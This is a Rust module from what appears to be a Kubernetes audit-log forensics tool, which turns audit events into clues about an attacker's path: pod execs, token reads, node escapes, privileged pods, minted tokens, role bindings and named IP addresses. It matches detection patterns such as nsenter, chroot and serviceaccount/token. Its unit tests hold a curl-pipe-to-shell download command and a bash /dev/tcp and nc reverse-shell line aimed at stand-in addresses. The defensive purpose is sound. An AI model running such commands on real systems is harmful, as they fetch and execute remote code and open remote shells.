//! Clues: what one event of a finding says about the actor's path — a pod it exec'd into,
//! a token it read or minted, a node it reached, an identity it impersonated or bound, an
//! address its command or pod spec names, a workload it created. Pure: an event in, clues out.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::OnceLock;

use serde_json::Value;

use crate::model::{AuditEvent, Micros};

/// What a clue says; the string is the thing it names (a pod `ns/name`, a node, an
/// identity, an address, a workload `ns/name`).
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Clue {
    /// An exec or attach into a pod (its token is within reach).
    ExecInto(String),
    /// The pod's service-account token read through the exec (`cat …/serviceaccount/token`).
    TokenRead(String),
    /// A request made with the token bound to this pod.
    CredentialPod(String),
    /// A request made with credentials living on this node (its kubelet's, or a token bound
    /// to a pod there, used where it should not be).
    CredentialNode(String),
    /// A foothold on a node: a privileged or hostPath pod placed there, an exec with
    /// nsenter/chroot into a pod there.
    NodeFoothold(String),
    /// A token or certificate minted for an identity (`TokenRequest`, token Secret, CSR).
    Minted(String),
    Impersonated(String),
    /// A binding created for this subject.
    BindingSubject(String),
    /// An address an exec command or a request body names (`curl http://X`, `nc X 4444`).
    NamedAddress(String),
    /// A workload (`ns/name`) created: its controller's pods are its doing.
    Workload(String),
    /// A pod (`ns/name`) a controller created.
    ControllerPod(String),
    /// The address the event came from: times the finding's address keys by their own
    /// first use, not by the finding's first event.
    Source(String),
}

/// One clue with the time of the event it came from and what happened (for explanations).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Found {
    pub clue: Clue,
    pub time: Micros,
    pub what: String,
}

/// Where pods run, as learned from the index (kubelets' status patches, bound tokens).
pub trait PodNodes {
    fn node_of_pod(&self, pod: &str) -> Option<&str>;
}

/// The clues of one event of a finding. `controller` says the finding's account is a
/// system controller: it carries no link but the workload its pods belong to.
pub fn of_event(e: &AuditEvent, controller: bool, pods: &dyn PodNodes) -> Vec<Found> {
    let mut out = Vec::new();
    let mut add = |clue: Clue, what: String| {
        out.push(Found {
            clue,
            time: e.time,
            what,
        });
    };
    let o = &e.object;
    let target = format!("{}/{}", o.namespace, object_name(e));
    if controller {
        if o.resource == "pods" && o.subresource.is_empty() && e.verb == "create" {
            add(
                Clue::ControllerPod(target.clone()),
                format!("created pod {target}"),
            );
        }
        return out;
    }
    if let Some(ip) = e.peer_ip().filter(|ip| !ip.is_empty()) {
        add(Clue::Source(ip.to_owned()), format!("came from {ip}"));
    }
    exec_clues(e, &target, pods, &mut add);
    credential_clues(e, &mut add);
    object_clues(e, &target, pods, &mut add);
    out
}

fn exec_clues(
    e: &AuditEvent,
    target: &str,
    pods: &dyn PodNodes,
    add: &mut impl FnMut(Clue, String),
) {
    let o = &e.object;
    if o.resource != "pods" || !matches!(o.subresource.as_str(), "exec" | "attach") {
        return;
    }
    let line = e.exec.as_ref().map_or("", |x| x.command_line.as_str());
    add(
        Clue::ExecInto(target.to_owned()),
        format!("{} into {target}", o.subresource),
    );
    if line.contains("serviceaccount/token") {
        add(
            Clue::TokenRead(target.to_owned()),
            format!("read the token of {target}"),
        );
    }
    let escapes = ["nsenter", "chroot", "/host"]
        .iter()
        .any(|w| line.contains(w));
    if escapes && let Some(node) = pods.node_of_pod(target) {
        add(
            Clue::NodeFoothold(node.to_owned()),
            format!("left {target} for its node {node}"),
        );
    }
    for ip in addresses_in(line) {
        add(
            Clue::NamedAddress(ip.clone()),
            format!("ran a command naming {ip}"),
        );
    }
}

fn credential_clues(e: &AuditEvent, add: &mut impl FnMut(Clue, String)) {
    if let (Some(pod), Some(ns)) = (&e.credential.pod_name, &e.actor.sa_namespace) {
        add(
            Clue::CredentialPod(format!("{ns}/{pod}")),
            format!("used the token of pod {ns}/{pod}"),
        );
    }
    if let Some(node) = &e.actor.node {
        add(
            Clue::CredentialNode(node.clone()),
            format!("used the kubelet credentials of {node}"),
        );
    }
    if let Some(user) = &e.impersonated {
        add(
            Clue::Impersonated(user.username.clone()),
            format!("impersonated {}", user.username),
        );
    }
}

fn object_clues(
    e: &AuditEvent,
    target: &str,
    pods: &dyn PodNodes,
    add: &mut impl FnMut(Clue, String),
) {
    let o = &e.object;
    let writes = matches!(e.verb.as_str(), "create" | "update" | "patch");
    match (o.resource.as_str(), o.subresource.as_str()) {
        ("serviceaccounts", "token") if e.verb == "create" => {
            let sa = format!("system:serviceaccount:{}:{}", o.namespace, o.name);
            add(
                Clue::Minted(sa.clone()),
                format!("requested a token for {sa}"),
            );
        }
        ("secrets", "")
            if o.name.contains("token") && matches!(e.verb.as_str(), "get" | "list") =>
        {
            let sa = format!(
                "system:serviceaccount:{}:{}",
                o.namespace,
                token_owner(&o.name)
            );
            add(Clue::Minted(sa), format!("read the token secret {target}"));
        }
        ("certificatesigningrequests", "approval") => {
            let cn = strip_suffix_segment(&o.name);
            add(
                Clue::Minted(cn.to_owned()),
                format!("approved the certificate request {}", o.name),
            );
        }
        ("clusterrolebindings" | "rolebindings", "") if writes => {
            for subject in binding_subjects(e) {
                add(
                    Clue::BindingSubject(subject.clone()),
                    format!("bound {} to {subject}", o.name),
                );
            }
        }
        ("pods", "") if e.verb == "create" => pod_clues(e, target, pods, add),
        (
            "daemonsets" | "deployments" | "statefulsets" | "cronjobs" | "jobs" | "replicasets",
            "",
        ) if e.verb == "create" => {
            add(
                Clue::Workload(target.to_owned()),
                format!("created {} {target}", o.resource),
            );
            body_addresses(e, add);
        }
        ("mutatingwebhookconfigurations" | "validatingwebhookconfigurations", "") if writes => {
            body_addresses(e, add);
        }
        _ => {}
    }
}

/// A pod created privileged or with host access on a node is a foothold on it.
fn pod_clues(
    e: &AuditEvent,
    target: &str,
    pods: &dyn PodNodes,
    add: &mut impl FnMut(Clue, String),
) {
    body_addresses(e, add);
    let Some(body) = e
        .request_object
        .as_deref()
        .map(serde_json::value::RawValue::get)
    else {
        return;
    };
    let risky = [
        "\"privileged\":true",
        "\"hostPath\"",
        "\"hostPID\":true",
        "\"hostNetwork\":true",
    ]
    .iter()
    .any(|w| body.contains(w));
    if !risky {
        return;
    }
    let spec_node = serde_json::from_str::<Value>(body).ok().and_then(|v| {
        v.pointer("/spec/nodeName")
            .and_then(Value::as_str)
            .map(str::to_owned)
    });
    if let Some(node) = spec_node.or_else(|| pods.node_of_pod(target).map(str::to_owned)) {
        add(
            Clue::NodeFoothold(node.clone()),
            format!("placed the host-access pod {target} on {node}"),
        );
    }
}

/// The addresses a request body names (a script URL, a webhook, an image registry).
fn body_addresses(e: &AuditEvent, add: &mut impl FnMut(Clue, String)) {
    let Some(body) = e
        .request_object
        .as_deref()
        .map(serde_json::value::RawValue::get)
    else {
        return;
    };
    for ip in addresses_in(body) {
        add(
            Clue::NamedAddress(ip.clone()),
            format!("wrote a spec naming {ip}"),
        );
    }
}

/// The object's name: from its reference, else (a create) from the request or response
/// body, else its `generateName` without the trailing dash.
fn object_name(e: &AuditEvent) -> String {
    if !e.object.name.is_empty() {
        return e.object.name.clone();
    }
    let meta = |raw: Option<&serde_json::value::RawValue>, key: &str| {
        let v: Value = serde_json::from_str(raw?.get()).ok()?;
        v.pointer(&format!("/metadata/{key}"))
            .and_then(Value::as_str)
            .map(str::to_owned)
    };
    meta(e.response_object.as_deref(), "name")
        .or_else(|| meta(e.request_object.as_deref(), "name"))
        .or_else(|| {
            meta(e.request_object.as_deref(), "generateName")
                .map(|g| g.trim_end_matches('-').to_owned())
        })
        .unwrap_or_default()
}

/// The subjects of a binding's body, as the identities that act: service accounts as
/// `system:serviceaccount:ns:name`, users by name, `system:unauthenticated` as
/// `system:anonymous`. Groups everyone belongs to carry no link.
pub fn binding_subjects(e: &AuditEvent) -> Vec<String> {
    let Some(body) = e
        .request_object
        .as_deref()
        .map(serde_json::value::RawValue::get)
    else {
        return Vec::new();
    };
    let Ok(v) = serde_json::from_str::<Value>(body) else {
        return Vec::new();
    };
    let Some(subjects) = v.get("subjects").and_then(Value::as_array) else {
        return Vec::new();
    };
    let mut out: Vec<String> = subjects.iter().filter_map(subject_identity).collect();
    out.sort();
    out.dedup();
    out
}

fn subject_identity(s: &Value) -> Option<String> {
    let text = |k: &str| s.get(k).and_then(Value::as_str).unwrap_or_default();
    match text("kind") {
        "ServiceAccount" => Some(format!(
            "system:serviceaccount:{}:{}",
            text("namespace"),
            text("name")
        )),
        "User" => Some(text("name").to_owned()),
        "Group" if text("name") == "system:unauthenticated" => Some("system:anonymous".into()),
        _ => None,
    }
}

/// The service account a token secret belongs to: `deployer-token`, `deployer-token-x7k2p`
/// → `deployer`.
fn token_owner(secret: &str) -> &str {
    secret.find("-token").map_or(secret, |i| &secret[..i])
}

/// `ops-backup-qj9jk` → `ops-backup` (generated names end in a random segment).
fn strip_suffix_segment(name: &str) -> &str {
    name.rsplit_once('-').map_or(name, |(head, _)| head)
}

/// The routable IPv4 addresses a text names (loopback, link-local, unspecified and
/// broadcast addresses carry no link).
pub fn addresses_in(text: &str) -> Vec<String> {
    static RE: OnceLock<Option<regex::Regex>> = OnceLock::new();
    let Some(re) = RE
        .get_or_init(|| {
            regex::Regex::new(r"(?:^|[^0-9.])(\d{1,3}(?:\.\d{1,3}){3})(?:$|[^0-9.])").ok()
        })
        .as_ref()
    else {
        return Vec::new();
    };
    let mut out: Vec<String> = re
        .captures_iter(text)
        .filter_map(|c| c.get(1)?.as_str().parse::<Ipv4Addr>().ok())
        .filter(|ip| routable(IpAddr::V4(*ip)))
        .map(|ip| ip.to_string())
        .collect();
    out.sort();
    out.dedup();
    out
}

fn routable(ip: IpAddr) -> bool {
    match ip {
        IpAddr::V4(v4) => {
            !(v4.is_loopback() || v4.is_link_local() || v4.is_unspecified() || v4.is_broadcast())
        }
        IpAddr::V6(v6) => !(v6.is_loopback() || v6.is_unspecified()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_of_commands_and_specs() {
        assert_eq!(
            addresses_in("sh -c 'curl -s http://203.0.113.50/x.sh | sh'"),
            ["203.0.113.50"]
        );
        assert_eq!(
            addresses_in("bash -i >& /dev/tcp/203.0.113.50/4444 0>&1; nc 198.51.100.9 4444"),
            ["198.51.100.9", "203.0.113.50"]
        );
        assert!(addresses_in("curl http://169.254.169.254/latest/ 127.0.0.1 1.2.3.4.5").is_empty());
        assert!(addresses_in("image: nginx:1.25.3").is_empty());
    }

    #[test]
    fn token_secrets_and_csrs_name_their_owner() {
        assert_eq!(token_owner("deployer-token"), "deployer");
        assert_eq!(token_owner("deployer-token-x7k2p"), "deployer");
        assert_eq!(strip_suffix_segment("ops-backup-qj9jk"), "ops-backup");
    }
}
